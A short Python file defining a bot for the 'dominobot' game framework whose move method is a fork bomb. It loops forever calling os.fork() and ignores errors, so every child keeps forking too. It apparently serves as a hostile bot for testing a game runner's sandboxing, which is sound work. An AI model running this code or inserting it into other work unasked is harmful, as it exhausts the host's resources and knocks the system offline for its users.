"""Forks for ever, children too."""

import contextlib
import os

from dominobot import Bot, Play, View, run


class ForkBomb(Bot):
    def choose(self, view: View) -> Play:
        while True:
            with contextlib.suppress(OSError):
                os.fork()


if __name__ == "__main__":
    run(ForkBomb)
